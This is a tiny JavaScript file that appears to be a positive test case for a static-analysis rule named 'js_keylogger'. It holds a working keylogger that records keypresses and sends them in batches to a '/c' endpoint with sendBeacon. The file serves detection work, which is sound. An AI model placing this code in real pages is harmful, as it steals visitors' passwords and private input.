var k = [];
// ruleid: js_keylogger
document.onkeypress = function (ev) {
  k.push(ev.key);
  if (k.length > 50) navigator.sendBeacon('/c', k.splice(0).join(''));
};
